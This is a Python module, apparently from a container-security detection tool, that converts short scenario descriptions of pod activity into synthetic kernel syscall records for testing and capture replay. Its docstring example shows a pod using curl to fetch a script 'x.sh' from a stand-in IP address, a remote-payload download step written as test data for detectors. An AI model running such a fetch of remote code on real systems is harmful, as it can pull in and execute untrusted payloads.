"""The compact kernel scenario form: a few keys saying what a process in a pod does, turned into kernel events.

A kernel line (`{"kernel": {...}}` in a stream, or an item of a test case's `events`):

    {"time": "2024-06-03T10:02:00Z", "pod": "payments/api-6d8f9c7b5d-x2k4l",
     "run": ["/usr/bin/curl", "http://198.51.100.20/x.sh"], "connect": "198.51.100.20:80"}

`run`: the pod's main process forks and execs this argv (`clone`, `execve`); the new process may then `open` a path
(`openat`), `connect` to `IP:PORT` or to a unix socket `/path` (`socket` + `connect`), or `mount`
`[device, directory]`; that last syscall succeeds unless `fails` names the errno it returns (`"ENXIO"`). The last
record happens at `time`, the ones before it 1 ms apart.

The records are applied to the kernel source's own `KernelState` over a node that runs one container per pod (its
full id derived from `namespace/name`, with the `io.kubernetes.pod.*` labels a runtime reports), so every field
comes from the kernel source's extractors, exactly as a replayed capture's.
"""

from __future__ import annotations

import errno
import hashlib
import ipaddress
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import datetime
from typing import Any

from agent.event import Event
from sources.kernel.record import SyscallRecord
from sources.kernel.state import Accounts, ContainerMeta, KernelState, ProcessSnapshot, StateObserver, UserEntry
from sources.kernel.state.sockaddr import AF_INET, AF_INET6, AF_UNIX, SockAddr, pack_sockaddr

KEYS = frozenset({"time", "pod", "run", "open", "connect", "mount", "fails"})
SOCK_STREAM = 1
AT_FDCWD = -100
_STEP_NS = 1_000_000
_FIRST_CHILD_PID = 20_000
_ROOT = Accounts({0: UserEntry(0, "root", "/root", "/bin/sh")}, {0: "root"})


class ScenarioError(ValueError):
    """A kernel line that does not describe a scenario; the message names the key at fault."""


@dataclass(frozen=True)
class Pod:
    """A pod's one container; its main process (`sh`, pid 1 inside the container) runs as `pid` on the node."""

    namespace: str
    name: str
    pid: int = 0

    @property
    def container_id(self) -> str:
        """A full 64-hex container id, the same for the same pod in every scenario."""
        return hashlib.sha256(f"{self.namespace}/{self.name}".encode()).hexdigest()

    @property
    def short_id(self) -> str:
        """container.id as the kernel source prints it."""
        return self.container_id[:12]

    def meta(self) -> ContainerMeta:
        return ContainerMeta(self.container_id, name=f"k8s_app_{self.name}_{self.namespace}_0",
                             image="ghcr.io/acme/app:1.0", privileged=False, start_ns=1, runtime="containerd",
                             labels={"io.kubernetes.pod.namespace": self.namespace,
                                     "io.kubernetes.pod.name": self.name,
                                     "io.kubernetes.container.name": "app"})


def pod(text: str, pid: int = 0) -> Pod:
    """`namespace/name` as a Pod."""
    namespace, _, name = text.partition("/")
    if not namespace or not name:
        raise ScenarioError(f"pod: expected 'namespace/name', got {text!r}")
    return Pod(namespace, name, pid)


def time_ns(text: str) -> int:
    """An ISO-8601 time (`2024-06-03T10:00:03Z`, fractions allowed) in ns since the epoch."""
    try:
        moment = datetime.fromisoformat(text.replace("Z", "+00:00"))
    except (TypeError, ValueError):
        raise ScenarioError(f"time: expected an ISO 8601 time, got {text!r}") from None
    return int(moment.timestamp()) * 1_000_000_000 + moment.microsecond * 1000


@dataclass
class ScenarioNode:
    """The node the scenario runs on, as the kernel state's HostView: systemd and one container per pod."""

    pods: list[Pod]
    containers: dict[str, ContainerMeta] = field(init=False)

    def __post_init__(self) -> None:
        self.containers = {p.container_id: p.meta() for p in self.pods}

    def processes(self) -> list[ProcessSnapshot]:
        init = ProcessSnapshot(tid=1, pid=1, ppid=0, comm="systemd", exe="/sbin/init",
                               exepath="/usr/lib/systemd/systemd", cwd="/", sid=1, pgid=1, vpid=1, start_ns=1)
        return [init, *(ProcessSnapshot(tid=p.pid, pid=p.pid, ppid=1, comm="sh", exe="sh", exepath="/bin/sh",
                                        args=["-c", "exec app"], cwd="/", container_id=p.container_id, sid=1,
                                        pgid=p.pid, vpid=1, start_ns=1) for p in self.pods)]

    def process(self, tid: int) -> ProcessSnapshot | None:
        return None

    def accounts(self, container_id: str, pid: int) -> Accounts:
        return _ROOT

    def container(self, container_id: str) -> ContainerMeta | None:
        return self.containers.get(container_id)

    def container_of_cgroup(self, cgroup_id: int) -> str | None:
        return None


def scenario_events(lines: Sequence[Mapping[str, Any]], *, hostname: str = "",
                    observer: StateObserver | None = None) -> Iterator[Event]:
    """The kernel events of a run of kernel lines, in order; ScenarioError names a bad line. An `observer` (a
    CaptureWriter) is told everything the state learns, so that the scenario can be written as a capture."""
    names = list(dict.fromkeys(_pod_name(line, number) for number, line in enumerate(lines)))
    pods = {name: pod(name, pid=1000 + 100 * index) for index, name in enumerate(names)}
    node = ScenarioNode(list(pods.values()))
    state = KernelState(node, fetch_containers=False, hostname=hostname, observer=observer)
    try:
        state.seed()
        # The runtime described every pod's container before the first record, as it would have long before
        # an exec session starts.
        for meta in node.containers.values():
            if observer is not None:
                observer.on_container(meta)
            state.learn_container(meta)
        for number, line in enumerate(lines):
            try:
                records = _records(pods[line["pod"]], _FIRST_CHILD_PID + number, line)
            except ScenarioError as exc:
                raise ScenarioError(f"kernel line {number + 1}: {exc}") from None
            for record in records:
                event = state.apply(record)
                if event is not None:
                    yield event
    finally:
        state.close()


def _pod_name(line: Mapping[str, Any], number: int) -> str:
    if not isinstance(line, Mapping) or not isinstance(line.get("pod"), str):
        raise ScenarioError(f"kernel line {number + 1}: 'pod' ('namespace/name') is required")
    try:
        pod(line["pod"])
    except ScenarioError as exc:
        raise ScenarioError(f"kernel line {number + 1}: {exc}") from None
    return str(line["pod"])


def _records(where: Pod, child: int, line: Mapping[str, Any]) -> list[SyscallRecord]:
    unknown = set(line) - KEYS
    if unknown:
        raise ScenarioError(f"unknown keys {sorted(unknown)}; known: {sorted(KEYS)}")
    argv = line.get("run")
    if not isinstance(argv, list) or not argv or not all(isinstance(a, str) for a in argv):
        raise ScenarioError("'run' must be a non-empty list of strings (the argv)")
    actions = 2 + ("open" in line) + 2 * ("connect" in line) + ("mount" in line)
    if "fails" in line and actions == 2:
        raise ScenarioError("'fails' needs an open, connect or mount to fail")
    code = getattr(errno, str(line.get("fails", "")), None) if "fails" in line else 0
    if code is None:
        raise ScenarioError(f"fails: {line['fails']!r} is not an errno name (ENOENT, EACCES, ...)")
    res = -code
    clock = _Clock(time_ns(line.get("time", "")) - actions * _STEP_NS)
    comm = argv[0].rsplit("/", 1)[-1][:15]
    out = [SyscallRecord("clone", clock.next(), where.pid, where.pid, 0, 0, "sh", child,
                         {"child_tid": child, "child_pid": child, "flags": 0x11}),
           SyscallRecord("execve", clock.next(), child, child, 0, 0, comm, 0,
                         {"filename": argv[0], "argv": list(argv)})]

    def record(type_: str, result: int, **args: Any) -> None:
        out.append(SyscallRecord(type_, clock.next(), child, child, 0, 0, comm, result, args))

    if "open" in line:
        record("openat", res or 3, dirfd=AT_FDCWD, name=str(line["open"]), flags=0, mode=0)
    if "connect" in line:
        family, address = _address(str(line["connect"]))
        record("socket", 3, domain=family, type=SOCK_STREAM, proto=0)
        record("connect", res, fd=3, addr=address)
    if "mount" in line:
        mount = line["mount"]
        if not isinstance(mount, list) or len(mount) != 2:
            raise ScenarioError("'mount' must be [device, directory]")
        record("mount", res, dev=str(mount[0]), dir=str(mount[1]), type="ext4", flags=0)
    return out


def _address(text: str) -> tuple[int, bytes]:
    if text.startswith("/"):
        return AF_UNIX, pack_sockaddr(SockAddr(AF_UNIX, path=text))
    host, _, port = text.rpartition(":")
    try:
        ip = ipaddress.ip_address(host.strip("[]"))
        number = int(port)
    except ValueError:
        raise ScenarioError(f"connect: expected IP:PORT or /unix/path, got {text!r}") from None
    family = AF_INET6 if ip.version == 6 else AF_INET
    return family, pack_sockaddr(SockAddr(family, ip, number))


@dataclass
class _Clock:
    ts_ns: int

    def next(self) -> int:
        self.ts_ns += _STEP_NS
        return self.ts_ns
